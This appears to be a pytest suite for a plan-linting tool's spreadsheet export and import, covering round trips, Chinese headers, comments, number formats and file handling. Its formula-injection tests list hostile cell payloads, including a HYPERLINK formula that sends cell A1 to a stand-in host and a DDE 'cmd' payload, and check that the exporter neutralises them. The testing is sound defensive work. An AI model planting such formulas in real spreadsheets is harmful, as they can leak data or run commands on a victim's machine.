"""Export to and import from spreadsheets: round trip, headers, comments, sheets as planners make
them (LibreOffice files in tests/fixtures/), formula injection, control characters, output files."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from conftest import GOOD, PLANS, SHARED

from planlint.parser import parse

openpyxl = pytest.importorskip("openpyxl")
FIXTURES = Path(__file__).resolve().parent / "fixtures"


def run(*args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "planlint", *args], capture_output=True, text=True, timeout=120, **kw)


def normalised(text: str) -> dict:
    plan, problems = parse(text, "x.plan")
    assert problems == []

    def strip(o):
        if isinstance(o, dict):
            return {k: strip(v) for k, v in o.items()
                    if not k.endswith("span") and k not in ("path", "line_count", "directives", "fields")}
        if isinstance(o, list):
            return [strip(x) for x in o]
        return o

    return strip(json.loads(plan.model_dump_json()))


def comments(text: str) -> Counter:
    from planlint.parser.layout import comment_start

    return Counter(line[comment_start(line):].strip() for line in text.splitlines() if comment_start(line) >= 0)


def findings(path: Path) -> Counter:
    """What check says about a plan: (code, message), wherever the line now is."""
    from planlint.driver.linter import Linter

    return Counter((f.code, f.message) for f in Linter().lint(path.read_text(encoding="utf-8"), str(path)))


def sheet_of(path: Path, fmt: str):
    """The cells as a spreadsheet program reads them: {coordinate: (value, data_type)}."""
    if fmt == "csv":
        import csv
        import io

        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
        return {f"{openpyxl.utils.get_column_letter(c)}{r}": (v, "s") for r, row in enumerate(rows, 1)
                for c, v in enumerate(row, 1) if v}
    ws = openpyxl.load_workbook(path).active
    return {c.coordinate: (c.value, c.data_type) for row in ws.iter_rows() for c in row if c.value is not None}


# ------------------------------------------------------------------ round trip
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_round_trip_keeps_the_plan_its_comments_and_what_check_says(tmp_path, fmt):
    sources = [PLANS / "good.zh.plan", *sorted(SHARED.glob("*.plan"))]
    if len(sources) == 1:
        pytest.skip("shared/examples is not beside the checkout")
    for src in sources:
        sheet, back = tmp_path / f"t.{fmt}", tmp_path / "back.plan"
        r = run("export", str(src), "--format", fmt, "-o", str(sheet), "--force")
        assert r.returncode == 0, r.stderr
        r = run("import", str(sheet), "-o", str(back), "--force")
        assert r.returncode == 0, r.stderr
        original, again = src.read_text(encoding="utf-8"), back.read_text(encoding="utf-8")
        assert normalised(again) == normalised(original), src.name
        assert comments(again) == comments(original), src.name
        assert findings(back) == findings(src), src.name


PLAN_WITH_COMMENTS = """\
# 2024 计划: 给财务的版本
# planlint: disable=TR002
计划 "2024 智能门锁推广"  # 第一版
  周期: 2024-01-01 .. 2024-12-31
  预算: 100万元
  负责人: 王芳

团队 营销部
  负责人: 王芳  # 部门负责人
  成员: 张伟、李娜

# ===== 目标 =====
目标 LOCK "门锁销量"
  指标: 门锁销量 (万台)  # 口径: 出库量
  基准: 8 截至 2023-12-31
  # 目标由销售部确认
  目标值: 12
  截止: 2024-12-31
  负责人: 张伟  # planlint: disable=OW003
  部门: 营销部
  关联度: 高
  复盘: 每月
  拆分:
    # 上半年
    2024-H1: 5  # 618
    2024-H2: 7
  # 还缺先行指标

举措 ADS "信息流广告"  # planlint: disable=AL007
  支撑: LOCK
  策略: 品牌曝光
  负责人: 张伟
  预算: 30万元
  时间: 2024-03-01 .. 2024-10-31
# 文件结束
"""


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_comments_survive_export_and_import_in_the_comments_column(tmp_path, fmt):
    src = tmp_path / "p.plan"
    src.write_text(PLAN_WITH_COMMENTS, encoding="utf-8")
    sheet, back = tmp_path / f"p.{fmt}", tmp_path / "back.plan"
    assert run("export", str(src), "--format", fmt, "-o", str(sheet)).returncode == 0
    cells = sheet_of(sheet, fmt)
    header = [v for k, (v, _) in sorted(cells.items()) if re.fullmatch(r"[A-Z]+1", k)]
    assert "注释" in header
    column = next(k[:-1] for k, (v, _) in cells.items() if v == "注释")
    lock_row = next(k[1:] for k, (v, _) in cells.items() if v == "LOCK")
    assert cells[f"{column}{lock_row}"][0] == (
        "# ===== 目标 =====\n"  # before the block: its header's name follows
        "目标\n"
        "负责人 # planlint: disable=OW003\n"  # at the end of that field's line
        "指标 # 口径: 出库量\n"
        "  # 目标由销售部确认\n"  # on a line of its own, before the field named next
        "目标值\n"
        "  # 还缺先行指标")  # at the block's end
    r = run("import", str(sheet), "-o", str(back))
    assert r.returncode == 0, r.stderr
    again = back.read_text(encoding="utf-8")
    assert comments(again) == comments(PLAN_WITH_COMMENTS)
    assert normalised(again) == normalised(PLAN_WITH_COMMENTS)
    assert "  # 目标由销售部确认\n  目标值: 12" in again
    assert "  负责人: 张伟  # planlint: disable=OW003" in again
    assert "    # 上半年\n    2024-H1: 5  # 618" in again
    assert findings(back) == findings(src)  # the suppressions still hold where they were


def test_export_headers_follow_the_plan_language(tmp_path):
    out = tmp_path / "t.xlsx"
    assert run("export", str(PLANS / "good.zh.plan"), "-o", str(out)).returncode == 0
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["类型", "编号", "标题"] and "负责人" in header and "目标值" in header
    assert all(re.fullmatch(r"[\u4e00-\u9fff]+", h) for h in header), header  # no English 'head' among them
    assert header.count("负责人") == 1  # a team's head is its owner
    assert run("export", str(PLANS / "good.zh.plan"), "-o", str(out)).returncode == 2  # exists: no overwrite
    en = tmp_path / "en.xlsx"
    assert run("export", str(PLANS / "good.zh.plan"), "--lang", "en", "-o", str(en)).returncode == 0
    header = [c.value for c in openpyxl.load_workbook(en).active[1]]
    assert "owner" in header and "head" not in header and all(h.isascii() for h in header)


def test_import_english_headers_merged_cells_and_blank_repeats(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    ws.append(["kind", "id", "title", "owner", "metric", "baseline", "target", "deadline", "supports", "budget"])
    ws.append(["goal", "G1", "Leads", "Li Na", "leads (count)", "100", "150", "2025-12-31", None, None])
    ws.append([None, "G2", "Sign-ups", "Li Na", "sign-ups (count)", "10", "12", "2025-12-31", None, None])
    ws.append(["initiative", "I1", "Ads", "Zhao Qiang", None, None, None, None, "G1", "10k CNY"])
    ws.append([None, None, None, None, None, None, None, None, "G2", None])  # more of the row above
    ws.append(["initiative", "I2", "Webinars", None, None, None, None, None, None, "5k CNY"])
    ws.merge_cells("D4:D6")  # one owner typed once for both initiatives
    path = tmp_path / "in.xlsx"
    wb.save(path)
    out = tmp_path / "out.plan"
    r = run("import", str(path), "-o", str(out))
    assert r.returncode == 0, r.stderr
    plan, problems = parse(out.read_text(encoding="utf-8"), "out.plan")
    assert problems == []
    assert [g.id for g in plan.goals] == ["G1", "G2"]
    assert [s.value for s in plan.initiatives[0].supports] == ["G1", "G2"]
    assert plan.initiatives[0].owner.value == "Zhao Qiang"  # not "Zhao Qiang, Zhao Qiang" from the merged row
    assert plan.initiatives[1].owner.value == "Zhao Qiang"


def test_import_errors_point_to_the_cell_in_the_sheets_language(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("类型,编号,标题,截止,负责人,优先级\n目标,G1,线索,2024-13-45,张伟,P0\n,,,,,,多出来的\n",
                    encoding="utf-8-sig")
    out = tmp_path / "out.plan"
    r = run("import", str(path), "-o", str(out))
    assert r.returncode == 1
    lines = r.stderr.splitlines()
    assert f"planlint: {path}: F1: 不认识的列「优先级」: 按字段「优先级」导入, 但 planlint 不检查它 (表头写字段名, 如 负责人、预算)" in lines
    assert any(line.startswith(f"planlint: {path}: D2: ") and "2024-13-45" in line for line in lines)
    assert f"planlint: {path}: G3: 这一格有内容, 但它所在的列没有表头, 没有导入; 在第 1 行给这一列加上字段名" in lines
    assert len(lines) == 3  # the unknown column once, not again for each of its cells
    text = out.read_text(encoding="utf-8")
    assert "  优先级: P0" in text  # what the sheet holds is written, nothing is lost
    en = tmp_path / "en.csv"
    en.write_text("kind,id,title,deadline,owner,priority\ngoal,G1,Leads,2024-13-45,Li Na,P0\n", encoding="utf-8")
    r = run("import", str(en), "-o", str(tmp_path / "en.plan"))
    assert f"planlint: {en}: F1: unknown column 'priority': imported as the field 'priority', which planlint does " \
           "not check (head columns with field names such as owner, budget)" in r.stderr.splitlines()


def test_a_sheet_in_traditional_characters_gives_a_traditional_plan_and_traditional_problems(tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("類型,編號,標題,負責人,部門,截止,優先級\n團隊,行銷部,,陳怡君,,,\n"
                    "目標,G1,會員數從2萬提升到3萬,林志明,行銷部,2025-13-45,P0\n", encoding="utf-8")
    out = tmp_path / "out.plan"
    r = run("import", str(path), "-o", str(out))
    assert r.returncode == 1
    text = out.read_text(encoding="utf-8")
    for line in ["團隊 行銷部", "  負責人: 陳怡君", '目標 G1 "會員數從2萬提升到3萬"', "  負責人: 林志明", "  部門: 行銷部",
                 "  優先級: P0"]:  # keywords in the sheet's script; an unknown header as written
        assert line in text.splitlines(), line
    lines = r.stderr.splitlines()
    # Taiwan's words: a column is 欄 (列 is a row there), import is 匯入
    assert f"planlint: {path}: G1: 不認識的欄「優先級」: 按欄位「優先級」匯入, 但 planlint 不檢查它 (表頭寫欄位名稱, 如 負責人、預算)" \
        in lines
    assert any(line.startswith(f"planlint: {path}: F3: ") and "2025-13-45" in line and "日期" in line for line in lines)


def test_init_export_import_keep_the_users_files(tmp_path):
    plan = tmp_path / "p.plan"
    plan.write_text(GOOD, encoding="utf-8")
    assert run("import", str(plan), "-o", str(plan)).returncode == 2
    assert plan.read_text(encoding="utf-8") == GOOD
    out = tmp_path / "p.xlsx"
    assert run("export", str(plan), "-o", str(plan)).returncode == 2
    assert plan.read_text(encoding="utf-8") == GOOD
    assert run("export", str(plan), "-o", str(out)).returncode == 0
    assert run("import", str(out), "-o", str(out)).returncode == 2
    assert zipfile.is_zipfile(out)


def test_unknown_and_misplaced_fields_travel_in_their_columns(tmp_path):
    text = GOOD.replace("  负责人: 张伟\n", "  负责人: 张伟\n  优先级: P0\n", 1)
    assert text != GOOD
    src = tmp_path / "p.plan"
    src.write_text(text, encoding="utf-8")
    sheet, back = tmp_path / "p.xlsx", tmp_path / "back.plan"
    r = run("export", str(src), "-o", str(sheet))
    assert r.returncode == 0, r.stderr
    assert "优先级" in [c.value for c in openpyxl.load_workbook(sheet).active[1]]
    run("import", str(sheet), "-o", str(back))
    assert "  优先级: P0" in back.read_text(encoding="utf-8")


def test_export_says_which_lines_the_sheet_cannot_hold(tmp_path):
    src = tmp_path / "p.plan"
    src.write_text(GOOD + "\n这不是一行计划\n", encoding="utf-8")
    r = run("export", str(src), "-o", str(tmp_path / "p.xlsx"))
    assert r.returncode == 1
    n = len(GOOD.splitlines()) + 2
    assert f"planlint: {src}:{n}: 这一行无法放进表格, 导出的表格里没有它: 这不是一行计划" in r.stderr.splitlines()


# --------------------------------------------------------- sheets as planners make them
def imported(path: Path) -> tuple[str, subprocess.CompletedProcess]:
    r = run("import", str(path), "-o", "-")
    return r.stdout, r


@pytest.mark.parametrize("name", ["planner.zh.xlsx", "planner.zh-Hant.xlsx"])
def test_libreoffice_sheet_imports_formats_dates_merges_and_traditional_headers(name):
    """Made by LibreOffice Calc (tests/fixtures/make_sheets.py): percent cells, money formats,
    dates and a month, a merged owner, a comments column; one with Traditional headers."""
    text, r = imported(FIXTURES / name)
    assert r.returncode == 0, r.stderr
    assert r.stderr == ""
    for line in ["计划 \"2024 智能门锁推广\"", "  预算: 1000000元",  # #,##0"元"
                 "  基准: 10%  # 2023年数据", "  目标值: 30%",  # shown 10%, 30%; stored 0.1, 0.3
                 "  截止: 2024-12-31", "  预算: 150000元",  # a date cell; 0"元"
                 "  基准: 15万元", "  目标值: 20万元", "  截止: 2024-09",  # #,##0"万元"; yyyy"年"m"月"
                 "  预算: ¥120000", "  预算: ¥80000",  # [$¥-804]#,##0 and ¥#,##0
                 "目标 SALES \"-10% 成本, 销售额达到20万元\"", "  负责人: @李娜",  # text cells, not formulas
                 "# 预算已和财务确认"]:
        assert line in text.splitlines(), line
    plan, problems = parse(text, "x.plan")
    assert problems == []
    pen = plan.index.goals["PEN"]
    assert (pen.baseline.value, pen.baseline.unit) == (10, "%") and pen.target.value.value == 30
    assert [i.owner.value for i in plan.initiatives] == ["张伟", "张伟"]  # D6:D7 merged
    assert plan.index.goals["SALES"].deadline.end.isoformat() == "2024-09-30"


def test_traditional_and_simplified_sheets_give_the_same_plan():
    zh, _ = imported(FIXTURES / "planner.zh.xlsx")
    hant, _ = imported(FIXTURES / "planner.zh-Hant.xlsx")
    assert zh == hant


def test_libreoffice_csv_cells_as_shown():
    text, r = imported(FIXTURES / "planner.zh.csv")
    assert r.returncode == 0, r.stderr
    for line in ["  预算: 1,000,000元", "  基准: 10%  # 2023年数据", "  截止: 2024年9月", "  预算: ¥120,000"]:
        assert line in text.splitlines(), line


def test_a_title_row_merged_kinds_a_total_row_and_other_sheets(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "计划"
    ws.append(["2024 年度营销计划"])  # a title above the table, merged across it
    ws.merge_cells("A1:E1")
    ws.append([])
    ws.append(["类型", "编号", "标题", "预算", "注释"])
    ws.append(["举措", "I1", "广告", "10万元", "先投信息流"])
    ws.append([None, "I2", "直播", "5万元", None])
    ws.append([None, "I3", "门店", "3万元", None])
    ws.merge_cells("A4:A6")  # one kind for the group
    ws.merge_cells("E4:E5")  # one comment for two rows
    ws.append(["合计", None, None, "18万元", None])
    wb.create_sheet("备用").append(["草稿"])
    wb.create_sheet("空表")
    path = tmp_path / "t.xlsx"
    wb.save(path)
    text, r = imported(path)
    assert r.returncode == 0, r.stderr
    assert text == ("# 2024 年度营销计划\n\n# 先投信息流\n举措 I1 \"广告\"\n  预算: 10万元\n\n"
                    "举措 I2 \"直播\"\n  预算: 5万元\n\n举措 I3 \"门店\"\n  预算: 3万元\n")
    assert r.stderr.splitlines() == [
        f"planlint: {path}: 只导入了第一个工作表「计划」; 其他工作表 (备用) 也有内容, 没有导入",
        f"planlint: {path}: 计划!A7: 第 7 行是合计行, 没有导入 (planlint 自己会加总预算)"]


def test_number_formats_as_excel_writes_them(tmp_path):
    import datetime as dt

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["类型", "编号", "指标", "基准", "目标值", "截止", "预算", "贡献"])
    rows = [
        (["目标", "A", "渗透率 (%)", 0.1, 0.3, dt.datetime(2024, 12, 31), 150000, 0.4],
         {"D": "0%", "E": "0.0%", "G": '150000"元"', "H": "0%"}),
        (["目标", "B", "销售额 (万元)", 15, 20, 45565, 35, 3],
         {"D": '#,##0"万元"', "E": '#,##0"万元"', "F": 'yyyy"年"m"月"', "G": "¥#,##0\"万\"", "H": '0"个百分点"'}),
        (["目标", "C", "线索 (条)", 1200, 2000, 45657, 120000, None],
         {"D": "#,##0", "E": "#,##0_);(#,##0)", "F": "m/d/yyyy", "G": "[$¥-804]#,##0.00"}),
    ]
    for r, (values, formats) in enumerate(rows, start=2):
        ws.append(values)
        for col, fmt in formats.items():
            ws[f"{col}{r}"].number_format = fmt
    path = tmp_path / "excel.xlsx"
    wb.save(path)
    text, r = imported(path)
    lines = text.splitlines()
    for line in ["  基准: 10%", "  目标值: 30%", "  截止: 2024-12-31", "  预算: 150000元", "  贡献: 40%",
                 "  基准: 15万元", "  目标值: 20万元", "  截止: 2024-09", "  预算: ¥35万", "  贡献: 3个百分点",
                 "  基准: 1200", "  目标值: 2000", "  预算: ¥120000"]:
        assert line in lines, (line, text)
    assert lines.count("  截止: 2024-12-31") == 2


def test_a_1904_workbook_reads_its_dates(tmp_path):
    import datetime as dt

    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    wb = openpyxl.Workbook()
    wb.epoch = CALENDAR_MAC_1904
    ws = wb.active
    ws.append(["kind", "id", "deadline"])
    ws.append(["goal", "G", dt.date(2025, 6, 30)])
    path = tmp_path / "mac.xlsx"
    wb.save(path)
    assert "  deadline: 2025-06-30" in imported(path)[0].splitlines()


def test_traditional_headers_in_a_csv(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("類型,編號,標題,負責人,預算,指標,基準,目標值,截止,部門\n"
                    "目標,G1,線索,張偉,10萬元,線索 (條),100,150,2024-12-31,營銷部\n", encoding="utf-8")
    text, r = imported(path)
    assert r.returncode == 0, r.stderr
    assert text == ('目標 G1 "線索"\n  負責人: 張偉\n  預算: 10萬元\n  指標: 線索 (條)\n  基準: 100\n  目標值: 150\n'
                    "  截止: 2024-12-31\n  部門: 營銷部\n")  # a Traditional sheet: keywords in Traditional too


def test_a_unit_in_the_header_reaches_the_plan(tmp_path):
    path = tmp_path / "u.csv"
    path.write_text("类型,编号,预算(万元)\n举措,I1,20\n", encoding="utf-8")
    text, _ = imported(path)
    plan, problems = parse(text, "x.plan")
    assert problems == [] and plan.initiatives[0].budget.value == 200_000


def test_gbk_csv_from_chinese_excel(tmp_path):
    path = tmp_path / "gbk.csv"
    path.write_bytes("类型,编号,负责人\n目标,G1,张伟\n".encode("gbk"))
    text, r = imported(path)
    assert r.returncode == 0 and "  负责人: 张伟" in text


# -------------------------------------------------------------- formula injection
HOSTILE_TEXTS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "-10% 成本", "+86 热线",
                 "@李娜", "=1+1", "'=已经带引号", "＝全角"]


def hostile_plan() -> str:
    lines = ['计划 "注入测试"', "  负责人: 王芳", ""]
    for i, t in enumerate(HOSTILE_TEXTS):
        title = t.replace('"', "'")
        lines += [f'目标 G{i} "{title}"', f"  负责人: {t if '#' not in t else '王芳'}", f"  备注: {t}", ""]
    return "\n".join(lines)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_cells_starting_with_a_formula_character_are_text_and_come_back(tmp_path, fmt):
    src = tmp_path / "p.plan"
    src.write_text(hostile_plan(), encoding="utf-8")
    sheet, back = tmp_path / f"p.{fmt}", tmp_path / "back.plan"
    r = run("export", str(src), "--format", fmt, "-o", str(sheet))
    assert r.returncode == 0, r.stderr
    if fmt == "xlsx":
        with zipfile.ZipFile(sheet) as z:
            xml = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
        ws = openpyxl.load_workbook(sheet).active
        for row in ws.iter_rows(min_row=2):
            for c in row:
                if isinstance(c.value, str) and c.value.lstrip("'").startswith(("=", "+", "-", "@", "＝")):
                    assert c.data_type == "s" and c.quotePrefix, c.coordinate
    else:
        cells = [v for v, _ in sheet_of(sheet, "csv").values()]
        assert "'=cmd|' /C calc'!A0" in cells and "'-10% 成本" in cells and "'@李娜" in cells and "''=已经带引号" in cells
        assert not any(v.startswith(("=", "+", "-", "@", "＝")) for v in cells)
    r = run("import", str(sheet), "-o", str(back))
    assert r.returncode == 0, r.stderr
    assert normalised(back.read_text(encoding="utf-8")) == normalised(hostile_plan())


def test_a_formula_with_no_saved_result_is_reported_not_dropped(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["类型", "编号", "标题", "负责人", "预算"])
    ws.append(["目标", "G1", "x", "=HYPERLINK(\"http://x\")", "=SUM(1,2)"])  # openpyxl saves no result
    ws.append(["目标", "G2", "y", "#N/A", None])
    path = tmp_path / "f.xlsx"
    wb.save(path)
    r = run("import", str(path), "-o", str(tmp_path / "f.plan"))
    assert r.returncode == 1
    lines = r.stderr.splitlines()
    assert f'planlint: {path}: Sheet!D2: 公式 =HYPERLINK("http://x") 没有保存计算结果, 没有导入; 在 Excel 中打开并保存一次, 或直接填入值' in lines
    assert any(line.startswith(f"planlint: {path}: Sheet!E2: 公式 =SUM(1,2)") for line in lines)
    assert f"planlint: {path}: Sheet!D3: 这一格显示错误 #N/A, 没有导入; 修正公式或直接填入值" in lines


# ------------------------------------------------------------- control characters
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_control_characters_do_not_break_export_and_come_back(tmp_path, fmt):
    text = GOOD.replace("负责人: 张伟", "负责人: 张\x0b伟", 1).replace('"', '"\x01', 1) + "  备注: 字面的 _x0041_ 留着\n"
    src = tmp_path / "p.plan"
    src.write_text(text, encoding="utf-8")
    sheet, back = tmp_path / f"p.{fmt}", tmp_path / "back.plan"
    r = run("export", str(src), "--format", fmt, "-o", str(sheet))
    assert r.returncode == 0, r.stderr
    line = next(n for n, ln in enumerate(text.split("\n"), 1) if "\x0b" in ln)
    expected = (f"planlint: {src}:{line}: 含有看不见的控制字符 U+000B (常见于损坏的文件); 表格中写作 _x000B_, 导入时还原"
                if fmt == "xlsx" else f"planlint: {src}:{line}: 含有看不见的控制字符 U+000B (常见于损坏的文件); 原样写入 CSV")
    assert expected in r.stderr.splitlines()
    if fmt == "xlsx":
        with zipfile.ZipFile(sheet) as z:
            assert "张_x000B_伟" in z.read("xl/worksheets/sheet1.xml").decode()
    r = run("import", str(sheet), "-o", str(back))
    assert r.returncode == 0, r.stderr
    again = back.read_text(encoding="utf-8")
    assert "张\x0b伟" in again and "\x01" in again and "字面的 _x0041_ 留着" in again
    assert normalised(again) == normalised(text)


# ------------------------------------------------------------------------- output
def test_dash_writes_to_stdout(tmp_path):
    r = subprocess.run([sys.executable, "-m", "planlint", "export", str(PLANS / "good.zh.plan"), "--format", "csv",
                        "-o", "-"], capture_output=True, cwd=tmp_path, timeout=60)
    assert r.returncode == 0
    assert r.stdout.decode("utf-8").startswith("类型,编号,标题,")  # text, no BOM
    r = subprocess.run([sys.executable, "-m", "planlint", "export", str(PLANS / "good.zh.plan"), "-o", "-"],
                       capture_output=True, cwd=tmp_path, timeout=60)
    assert r.returncode == 0 and r.stdout[:2] == b"PK"
    (tmp_path / "piped.xlsx").write_bytes(r.stdout)
    r2 = run("import", str(tmp_path / "piped.xlsx"), "-o", "-", cwd=tmp_path)
    assert r2.returncode == 0 and normalised(r2.stdout) == normalised(GOOD)
    assert not (tmp_path / "-").exists()


def test_xlsx_to_a_terminal_is_refused(tmp_path):
    pty = pytest.importorskip("pty")
    leader, follower = pty.openpty()
    try:
        r = subprocess.run([sys.executable, "-m", "planlint", "export", str(PLANS / "good.zh.plan"), "-o", "-"],
                           stdout=follower, stderr=subprocess.PIPE, cwd=tmp_path, timeout=60)
    finally:
        os.close(follower)
        os.close(leader)
    assert r.returncode == 2
    assert r.stderr.decode().splitlines() == [
        "planlint: -o -: .xlsx 是二进制文件, 不能输出到终端; 重定向到文件 (> plan.xlsx), 或用 --format csv"]
    assert not (tmp_path / "-").exists()


@pytest.mark.parametrize("umask,mode", [(0o022, 0o644), (0o027, 0o640)])
def test_output_files_follow_the_umask(tmp_path, umask, mode):
    out = tmp_path / "p.xlsx"
    plan = tmp_path / "p.plan"
    r = subprocess.run([sys.executable, "-m", "planlint", "export", str(PLANS / "good.zh.plan"), "-o", str(out)],
                       capture_output=True, timeout=60, preexec_fn=lambda: os.umask(umask))
    assert r.returncode == 0
    assert out.stat().st_mode & 0o777 == mode
    r = subprocess.run([sys.executable, "-m", "planlint", "import", str(out), "-o", str(plan)],
                       capture_output=True, timeout=60, preexec_fn=lambda: os.umask(umask))
    assert plan.stat().st_mode & 0o777 == mode
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary file left


def test_force_replaces_and_keeps_the_files_mode(tmp_path):
    out = tmp_path / "p.csv"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o600)
    r = run("export", str(PLANS / "good.zh.plan"), "--format", "csv", "-o", str(out))
    assert r.returncode == 2 and r.stderr.splitlines() == [f"planlint: {out}: 文件已存在; 加 --force 覆盖"]
    assert out.read_text(encoding="utf-8") == "old"
    assert run("export", str(PLANS / "good.zh.plan"), "--format", "csv", "-o", str(out), "--force").returncode == 0
    assert out.read_text(encoding="utf-8-sig").startswith("类型,")
    assert out.stat().st_mode & 0o777 == 0o600


def test_a_missing_folder_is_one_line(tmp_path):
    out = tmp_path / "nowhere" / "p.xlsx"
    r = run("export", str(PLANS / "good.zh.plan"), "-o", str(out))
    assert r.returncode == 2
    assert r.stderr.splitlines() == [f"planlint: {out}: 文件夹 {out.parent} 不存在; 先创建它, 或写到别处"]
    sheet = tmp_path / "s.csv"
    sheet.write_text("kind,id\ngoal,G1\n", encoding="utf-8")
    r = run("import", str(sheet), "-o", str(out))
    assert r.returncode == 2
    assert r.stderr.splitlines() == [
        f"planlint: {out}: the folder {out.parent} does not exist; create it first or write somewhere else"]


def test_write_helper_never_replaces_without_overwrite(tmp_path):
    from planlint.driver.files import InputError
    from planlint.output.report import write_bytes_atomically

    target = tmp_path / "x.txt"
    target.write_bytes(b"mine")
    with pytest.raises(FileExistsError):
        write_bytes_atomically(target, b"theirs", overwrite=False)
    assert target.read_bytes() == b"mine"
    with pytest.raises(InputError, match="does not exist"):
        write_bytes_atomically(tmp_path / "no" / "x.txt", b"")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.txt"]


def test_libreoffice_reads_the_export_as_text_and_saves_it_back_unchanged(tmp_path):
    """The real program: formulas stay text, _x000B_ is the character again, a re-save imports the same."""
    import shutil

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install -y libreoffice-calc)")
    text = hostile_plan().replace("负责人: 王芳", "负责人: 王\x0b芳", 1)
    src = tmp_path / "h.plan"
    src.write_text(text, encoding="utf-8")
    assert run("export", str(src), "-o", str(tmp_path / "h.xlsx")).returncode == 0
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    for target in ("csv:Text - txt - csv (StarCalc):44,34,76,1", "xlsx"):
        subprocess.run([soffice, profile, "--headless", "--convert-to", target, "--outdir", str(tmp_path / "lo"),
                        str(tmp_path / "h.xlsx")], check=True, capture_output=True, timeout=120)
    import csv
    import io

    shown = [c for row in csv.reader(io.StringIO((tmp_path / "lo" / "h.csv").read_text(encoding="utf-8"), newline=""))
             for c in row]
    assert "=1+1" in shown and "2" not in shown  # not evaluated
    assert "=cmd|' /C calc'!A0" in shown and "王\x0b芳" in shown
    back = tmp_path / "back.plan"
    r = run("import", str(tmp_path / "lo" / "h.xlsx"), "-o", str(back))
    assert r.returncode == 0, r.stderr
    assert normalised(back.read_text(encoding="utf-8")) == normalised(text)
